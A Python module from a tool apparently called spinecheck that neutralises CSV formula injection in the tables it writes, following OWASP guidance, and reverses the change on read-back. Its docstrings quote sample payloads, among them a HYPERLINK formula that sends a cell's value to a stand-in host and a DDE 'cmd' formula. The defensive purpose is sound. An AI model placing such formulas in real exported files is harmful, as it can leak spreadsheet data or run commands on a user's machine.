r"""CSV cells a spreadsheet would run as a formula, neutralised (CSV injection).

A researcher opens spinecheck's tables in a spreadsheet. A text cell that begins with
``=``, ``+``, ``-`` or ``@`` (or a tab, a carriage return or a NUL) is read there as a formula,
and a file named ``=HYPERLINK("http://x/?"&A1,"click").png`` would then run in their
spreadsheet. Every CSV spinecheck writes (the batch table, ``measure --format csv``, the
follow-up series, the instability table, the wide landmark CSV) passes its cells through
:func:`neutralise_cell`, which follows OWASP's rule: such a cell gets a leading single
quote ``'``, which spreadsheets take as "this is text" and do not show. The characters are
those of the OWASP CSV Injection page (``= + - @``, tab, carriage return) and of OWASP
ASVS 5.0 requirement 1.2.10, which adds the NUL character.

Numbers are left alone: a cell that is a plain decimal number (``-12.5``, ``+3``,
``-1.5e-07``) is data, not a formula, and a negative SVA must stay a number. So are cells
made of plus and minus signs only, the SRS–Schwab grades ``+`` and ``++`` of the published
table format (formats.md): with no operand, function or reference there is nothing to run,
and every reader of the table keeps reading the grades it knows. Only text cells change
(file names, paths, notes, errors, warnings, identifiers).

The rule is reversible, so that spinecheck reads back what it wrote (a batch that
resumes its table, the wide CSV, :func:`spinecheck.read_batch_table`): :func:`restore_cell`
removes the quote. A text that itself begins with quotes before such a character gets one
more, so that every text survives the round trip.

Parquet files hold the text as it is: they are typed tables, and no spreadsheet
evaluates their strings as formulas.

References
----------
OWASP Foundation. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection

OWASP Application Security Verification Standard 5.0, V1.2.10 (CSV and formula injection).

Examples
--------
>>> neutralise_cell("=1+2"), neutralise_cell("-12.5"), neutralise_cell("-x.png")
("'=1+2", '-12.5', "'-x.png")
>>> print(csv_text([["image", "SVA_mm"], ["@evil.png", "-12.5"]]), end="")
image,SVA_mm
'@evil.png,-12.5
"""

from __future__ import annotations

import csv
import functools
import io
import math
import re
from collections.abc import Iterable, Iterator, Sequence
from typing import TYPE_CHECKING

import numpy as np

from .arrow_arrays import bools, floats, numbers, string_scalar, strings, texts

if TYPE_CHECKING:
    import pyarrow as pa

__all__ = ["FORMULA_STARTS", "neutralise_cell", "restore_cell", "csv_text", "csv_column_chunks"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV Injection).
FORMULA_STARTS = frozenset("=+-@\t\r\0")

# what stays as it is although it starts with a sign: a decimal number, or signs only (a grade)
_DATA = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|[+-]+")


def _starts_formula(text: str) -> bool:
    """Whether *text* after any leading quotes begins like a formula."""
    rest = text.lstrip("'")
    return bool(rest) and rest[0] in FORMULA_STARTS


def neutralise_cell(text: str) -> str:
    r"""*text* as a CSV cell that no spreadsheet runs as a formula.

    Parameters
    ----------
    text : str
        A cell as spinecheck would write it.

    Returns
    -------
    str
        *text* with a leading ``'`` when it begins with ``=``, ``+``, ``-``,
        ``@``, a tab, a carriage return or a NUL and is neither a plain decimal number
        nor signs only (``+``, ``++``: a grade), or
        when it begins with quotes before one of those (so that
        :func:`restore_cell` gives back exactly *text*); otherwise *text*.

    Examples
    --------
    >>> [neutralise_cell(c) for c in ["", "x.png", "+3", "-1.5e-07", "++", "+cmd|' /C calc'!A0", "\tx", "'=a"]]
    ['', 'x.png', '+3', '-1.5e-07', '++', "'+cmd|' /C calc'!A0", "'\tx", "''=a"]
    """
    if _starts_formula(text) and not _DATA.fullmatch(text):
        return "'" + text
    return text


def restore_cell(text: str) -> str:
    """The text :func:`neutralise_cell` was given, from the cell it wrote.

    Examples
    --------
    >>> [restore_cell(neutralise_cell(c)) for c in ["=a", "'=a", "''@b", "-12.5", "'quoted", "x"]]
    ['=a', "'=a", "''@b", '-12.5', "'quoted", 'x']
    """
    if text.startswith("'") and _starts_formula(text):
        return text[1:]
    return text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    r"""The CSV text of *rows*, every cell neutralised (:func:`neutralise_cell`), lines ended by ``\n``.

    Parameters
    ----------
    rows : iterable of iterables
        The cells; each is written as ``str(cell)`` (None as an empty cell).

    Returns
    -------
    str
        Quoted as :mod:`csv` quotes (a cell holding a comma, a quote or a line
        end). A row with a carriage return in a cell is quoted whole: with
        ``\n`` as the line end, :mod:`csv` would leave that cell bare and a
        reader would see two lines.

    Examples
    --------
    >>> csv_text([["a", 1.5], ["x\ry", -2]])
    'a,1.5\n"x\ry","-2"\n'
    """
    buf = io.StringIO()
    minimal = csv.writer(buf, lineterminator="\n")
    whole = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = [neutralise_cell("" if c is None else str(c)) for c in row]
        (whole if any("\r" in c for c in cells) else minimal).writerow(cells)
    return buf.getvalue()


#: Rows formatted at a time by :func:`csv_column_chunks` (bounds the memory of the cells' text).
CHUNK_ROWS = 16384
#: Magnitudes whose text Arrow's float cast writes as :func:`repr` does (with ``.0`` after an
#: integer); outside it (and for 0 < |v| < 1e-4) ``repr`` writes an exponent that Arrow does not.
_ARROW_FLOATS = (1e-4, 1e10)
#: First characters of a text that :func:`neutralise_cell` may change.
_CAREFUL = FORMULA_STARTS | {"'"}


def csv_column_chunks(
    header: Sequence[str],
    columns: Sequence[np.ndarray],
    *,
    chunk_rows: int = CHUNK_ROWS,
) -> Iterator[str]:
    r"""The text of :func:`csv_text` for a table given by columns, a few thousand rows at a time.

    Parameters
    ----------
    header : sequence of str
        The column names (the first line).
    columns : sequence of ndarray, each shape (N,)
        One per header name: float arrays (a finite value is written as its
        :func:`repr`, ``-0.0`` as ``0.0``; NaN and infinities as empty cells),
        or object arrays (None is an empty cell, anything else ``str(cell)``).
    chunk_rows : int
        Rows per chunk of text.

    Yields
    ------
    str
        The header line, then the rows: joined, exactly the text :func:`csv_text`
        gives for ``[header, *rows]`` with the rows holding what
        :func:`csv_text` would be given (floats as Python floats, None for an
        empty cell).

    Notes
    -----
    Work is done a column at a time, in C++ through Arrow's compute functions:
    finite floats are formatted by Arrow's cast where its text equals
    :func:`repr` (checked once per process on sample values, else :func:`repr`
    is used), other floats by :func:`repr`; each distinct text of an object
    column is neutralised and quoted once, and the column taken from those
    texts by index; the cells of a row are joined with
    ``binary_join_element_wise``. A row with a carriage return in a cell is
    written by :mod:`csv` with every cell quoted, as :func:`csv_text` does.
    No Arrow array is made from Python objects (``pyarrow.array`` imports
    pandas, some 0.5 s): every one is built from its buffers.

    Examples
    --------
    >>> cols = [np.array(["a.png", "=b, c.png"], dtype=object), np.array([-0.0, np.nan])]
    >>> print("".join(csv_column_chunks(["image", "SVA_mm"], cols)), end="")
    image,SVA_mm
    a.png,0.0
    "'=b, c.png",
    """
    yield csv_text([header])
    n = len(columns[0]) if columns else 0
    if len(header) == 1:  # csv writes a lone empty cell as "": leave that rule to csv
        for start in range(0, n, chunk_rows):
            yield csv_text([[_raw_cell(columns[0], i)] for i in range(start, min(n, start + chunk_rows))])
        return
    for start in range(0, n, chunk_rows):
        yield _chunk_text([c[start : start + chunk_rows] for c in columns])


def _chunk_text(columns: Sequence[np.ndarray]) -> str:
    r"""The lines of the rows of *columns* (each shape (m,), m >= 1), each ended by ``\n``."""
    import pyarrow.compute as pc

    m = len(columns[0])
    cells: list[pa.Array | str] = []  # a column, or the one text of every cell of it
    whole = np.zeros(m, dtype=bool)  # rows with a carriage return: csv quotes them whole
    for col in columns:
        if col.dtype.kind == "f":
            cells.append(_float_cells(col))
        else:
            text, cr = _object_cells(col)
            cells.append(text)
            if cr is not None:
                whole |= cr
    if all(type(c) is str for c in cells):  # every row the same line
        if not whole.any():
            return (",".join(cells) + "\n") * m
        cells[0] = strings([cells[0]] * m)
    arrays = [string_scalar(c) if type(c) is str else c for c in cells]
    lines = pc.binary_join_element_wise(
        *arrays, string_scalar(","), null_handling="replace", null_replacement=""
    )
    if whole.any():
        rows = np.flatnonzero(whole).tolist()
        quoted = [csv_text([[_raw_cell(col, k) for col in columns]]).removesuffix("\n") for k in rows]
        lines = pc.replace_with_mask(lines, bools(whole), strings(quoted))
    lines = pc.binary_join_element_wise(lines, string_scalar(""), string_scalar("\n"))
    offsets = np.frombuffer(lines.buffers()[1], dtype=np.int64, count=m + 1, offset=8 * lines.offset)
    return str(memoryview(lines.buffers()[2])[offsets[0] : offsets[-1]], "utf-8")


def _raw_cell(col: np.ndarray, i: int) -> object:
    """Cell *i* of *col* as :func:`csv_text` is given it (floats as Python floats, None when empty)."""
    v = col[i]
    if col.dtype.kind == "f":
        return float(v) + 0.0 if math.isfinite(v) else None
    return v


def _float_cells(values: np.ndarray) -> pa.Array | str:
    """The cells of a float column: :func:`repr` of each finite value (``-0.0`` as ``0.0``), else null.

    ``""`` when every cell is empty.
    """
    import pyarrow as pa
    import pyarrow.compute as pc

    v = values.astype(float) + 0.0  # + 0.0: never a "-0.0" cell
    finite = np.isfinite(v)
    if not finite.any():
        return ""
    if not _arrow_floats_like_repr():
        return strings([repr(x) if ok else "" for x, ok in zip(v.tolist(), finite.tolist(), strict=True)])
    size = np.abs(v)
    easy = finite & (((size >= _ARROW_FLOATS[0]) & (size < _ARROW_FLOATS[1])) | (v == 0))
    text = pc.cast(floats(v, easy), pa.large_string())
    whole = easy & (np.floor(v) == v)
    if whole.any():  # Arrow writes 12.0 as "12"
        text = pc.if_else(
            bools(whole), pc.binary_join_element_wise(text, string_scalar(".0"), string_scalar("")), text
        )
    hard = finite & ~easy
    if hard.any():
        text = pc.replace_with_mask(text, bools(hard), strings(list(map(repr, v[hard].tolist()))))
    return text


@functools.cache
def _arrow_floats_like_repr() -> bool:
    """Whether this Arrow's float-to-text cast writes what :func:`repr` writes, in :data:`_ARROW_FLOATS`."""
    import pyarrow as pa
    import pyarrow.compute as pc

    rng = np.random.default_rng(0)
    sample = np.concatenate(
        (
            10.0 ** rng.uniform(-4, 10, 2000) * rng.choice([-1.0, 1.0], 2000),
            np.round(rng.normal(0, 100, 1000), 2),
            [1e-4, 0.1, 0.3, 1 / 3, 2 / 3, 0.0, 1.0, -7.0, 123456789.0, 9999999999.0, 9999999999.5, 1e-3],
        )
    )
    sample = sample[
        (np.abs(sample) >= _ARROW_FLOATS[0]) & (np.abs(sample) < _ARROW_FLOATS[1]) | (sample == 0)
    ]
    text = texts(pc.cast(floats(sample, np.ones(len(sample), dtype=bool)), pa.large_string()))
    whole = np.floor(sample) == sample
    return all(t + ".0" * w == repr(x) for t, w, x in zip(text, whole.tolist(), sample.tolist(), strict=True))


class _Codes(dict):
    """Each key's index in the order keys came; a key not seen gets the next (one dict lookup a cell)."""

    def __missing__(self, key: object) -> int:
        self[key] = code = len(self)
        return code


def _object_cells(values: np.ndarray) -> tuple[pa.Array | str, np.ndarray | None]:
    """The cells of an object column (its one text when all are alike), and the rows with a carriage return.

    The rows are None when no cell holds one.
    Each distinct value's text is made once (a column repeats a few texts; the
    texts of most others need no quote and no neutralising, which one search of
    their joined text tells), and the column is taken from those texts by each
    row's index.
    """
    import pyarrow as pa
    import pyarrow.compute as pc

    items = values.tolist()
    index = _Codes()
    try:
        codes = np.fromiter(map(index.__getitem__, items), dtype=np.int32, count=len(items))
    except TypeError:  # an unhashable cell
        codes = None
    # 1 == 1.0 == True and 0.0 == -0.0 share a key: a column is looked up by value only when its
    # cells are of one kind whose equal values write the same text (str, int or bool, besides None)
    kinds = {type(k) for k in index} - {type(None)}
    if codes is not None and kinds - {str}:  # a number key may stand for a cell of another kind
        kinds = set(map(type, items)) - {type(None)}
    if codes is None or len(kinds) > 1 or not kinds <= {str, int, bool}:
        shown = [_cell_text(v) for v in items]
        returns = [t for t in shown if "\r" in t]
        return strings(shown), (np.array(["\r" in t for t in shown]) if returns else None)
    shown = _cell_texts(list(index))
    cr_codes = [k for k, t in enumerate(shown) if "\r" in t]
    cr = np.isin(codes, cr_codes) if cr_codes else None
    if len(shown) == 1:
        return shown[0], cr
    if len(shown) == len(items):  # every cell distinct: the texts are in the rows' order
        return strings(shown), cr
    return pc.take(strings(shown), numbers(codes, pa.int32())), cr


def _cell_texts(values: list[object]) -> list[str]:
    """:func:`_cell_text` of each of *values*, with one search for the cells that need it."""
    shown = [v if type(v) is str else "" if v is None else str(v) for v in values]
    joined = "\x01" + "\x01".join(shown)  # a cell's first character follows a \x01
    if any(c in joined for c in ',"\n\r') or any("\x01" + c in joined for c in _CAREFUL):
        return [_cell_text(v) for v in values]
    return shown


def _cell_text(v: object) -> str:
    """One cell as the minimal csv writer writes it (a carriage return is left for the whole-row writer)."""
    text = v if type(v) is str else "" if v is None else str(v)
    if text[:1] in _CAREFUL:
        text = neutralise_cell(text)
    if ("," in text or '"' in text or "\n" in text) and "\r" not in text:
        return '"' + text.replace('"', '""') + '"'
    return text
